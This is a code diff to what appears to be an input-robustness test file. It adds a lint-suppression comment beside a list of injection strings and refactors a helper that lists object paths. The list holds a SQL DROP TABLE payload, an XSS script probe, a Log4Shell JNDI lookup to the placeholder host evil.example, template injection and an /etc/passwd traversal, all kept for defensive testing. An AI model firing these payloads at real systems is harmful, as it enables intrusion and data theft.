@@ -16,6 +16,7 @@ const INJECTIONS = [
   "'; DROP TABLE third_parties; --",
   '" OR "1"="1',
   '<script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
   '../../../../etc/passwd',
@@ -71,8 +72,9 @@ type Json = Record<string, unknown> | unknown[];
 /** Every path to a value inside `value`. */
 function paths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
   const out: (string | number)[][] = [prefix];
-  if (Array.isArray(value)) value.forEach((v, i) => out.push(...paths(v, [...prefix, i])));
-  else if (value !== null && typeof value === 'object') {
+  if (Array.isArray(value)) {
+    for (const [i, v] of value.entries()) out.push(...paths(v, [...prefix, i]));
+  } else if (value !== null && typeof value === 'object') {
     for (const [k, v] of Object.entries(value)) out.push(...paths(v, [...prefix, k]));
   }
   return out;
